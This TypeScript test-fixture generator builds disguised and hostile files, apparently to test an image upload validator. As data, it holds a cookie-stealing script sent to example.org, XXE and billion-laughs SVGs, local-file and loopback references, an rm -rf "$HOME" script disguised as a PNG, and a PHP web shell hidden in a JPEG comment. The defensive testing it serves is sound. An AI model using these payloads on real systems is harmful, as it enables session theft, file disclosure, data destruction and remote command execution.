import { goodFiles, type Hostile, latin, scene } from './made.ts';

const script = "<script>fetch('https://example.org/'+document.cookie)</script>";
const svg = (inside: string, before = '') =>
  latin(
    `<?xml version="1.0"?>${before}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`,
  );
const laughs = Array.from({ length: 9 }, (_, i) => {
  const inner = i === 0 ? 'ha' : `&l${i - 1};`.repeat(10);
  return `<!ENTITY l${i} "${inner}">`;
}).join('');
const box = (brand: string) => latin(`\0\0\0\x18ftyp${brand}\0\0\0\0mif1${brand}\0\0\0\x08mdat`);

const known: [Hostile['outcome'], string, Uint8Array][] = [
  ['PICTURE_SVG', 'script.svg', svg(script)],
  ['PICTURE_SVG', 'script.svg.png', svg(script)],
  [
    'PICTURE_SVG',
    'outside.svg',
    svg('<image href="file:///etc/passwd"/><use href="http://127.0.0.1/"/>'),
  ],
  [
    'PICTURE_SVG',
    'entity.svg',
    svg('&x;', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ],
  ['PICTURE_SVG', 'laughs.svg', svg('&l8;', `<!DOCTYPE svg [${laughs}]>`)],
  ['PICTURE_SVG', 'filters.svg', svg('<feTurbulence numOctaves="9999"/>'.repeat(90))],
  ['PICTURE_HEIC', 'header.heic', box('heic')],
  ['PICTURE_HEIC', 'photo.jpg', box('mif1')],
  ['PICTURE_AVIF', 'header.avif', box('avif')],
  ['PICTURE_VIDEO', 'film.mp4', box('isom')],
  ['PICTURE_VIDEO', 'film.gif', box('mp42')],
  ['PICTURE_VIDEO', 'film.webm', latin('\x1aE\xdf\xa3\x01\0\0\0')],
  ['PICTURE_PDF', 'page.pdf', latin('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')],
  ['PICTURE_FORMAT', 'page.html', latin(`<!DOCTYPE html>${script}`)],
  ['PICTURE_FORMAT', 'page.png', latin(`<html>${script}`)],
  ['PICTURE_FORMAT', 'program.png', latin('#!/bin/sh\nrm -rf "$HOME"\n')],
  ['PICTURE_FORMAT', 'drawing.eps', latin('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n')],
  [
    'PICTURE_FORMAT',
    'drawing.mvg',
    latin("push graphic-context\nimage over 0,0 9,9 'https://example.org/'"),
  ],
  ['PICTURE_FORMAT', 'layers.psd', latin('8BPS\0\x01')],
  ['PICTURE_FORMAT', 'old.bmp', latin('BM\x46\0\0\0')],
  ['PICTURE_FORMAT', 'sign.ico', latin('\0\0\x01\0\x01\0')],
  ['PICTURE_FORMAT', 'new.jxl', latin('\xff\x0a\0')],
  ['PICTURE_FORMAT', 'archive.jpg', latin('PK\x03\x04\x14\0')],
  ['PICTURE_UNKNOWN', 'program.jpg', latin('\x7fELF\x02\x01\x01\0')],
];

/** One thing that says it is another, and formats that are not read. */
export async function* disguised(): AsyncGenerator<Hostile> {
  for (const [outcome, name, bytes] of known) yield { outcome, name: `format/${name}`, bytes };
  const small = scene(64, 48);
  const avif = await small.clone().avif({ effort: 0 }).toBuffer();
  yield { outcome: 'PICTURE_AVIF', name: 'format/whole.avif', bytes: avif };
  const tiff = await small.clone().tiff().toBuffer();
  yield { outcome: 'PICTURE_TIFF', name: 'format/whole.png', bytes: tiff };

  const endings = ['.jpg', '.png', '.webp', '.gif', '.svg', '.pdf', '', '.png\n\x1b[31m.exe'];
  const good = await goodFiles();
  for (const [i, [name, bytes]] of good.entries()) {
    const [kind] = name.split('.');
    yield { outcome: 'read', name: `ending/${kind}${endings[i % endings.length]}`, bytes };
    for (const [what, tail] of [
      ['script', latin(script)],
      ['archive', latin('PK\x05\x06'.padEnd(22, '\0'))],
      ['picture', good[(i + 1) % good.length]?.[1] as Buffer],
      ['noise', Buffer.alloc(5000, 0xaa)],
    ] as const) {
      yield { outcome: 'read', name: `${what}-after/${name}`, bytes: Buffer.concat([bytes, tail]) };
      // What a file begins with decides; what begins with noise is nothing.
      const before = Buffer.concat([tail, bytes]);
      yield { outcome: 'either', name: `${what}-before/${name}`, bytes: before };
    }
  }
  const jpeg = good[0]?.[1] as Buffer;
  const comment = latin(
    `\xff\xfe\0\x50${`<?php system($_GET[0]); ?>${script}`.slice(0, 78).padEnd(78)}`,
  );
  const within = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
  yield { outcome: 'read', name: 'script-within/comment.jpg', bytes: within };
  const gif = latin(`GIF89a/*\0\0\0\0\0*/=1;${script}`);
  yield { outcome: 'either', name: 'script-within/program.gif', bytes: gif };
}
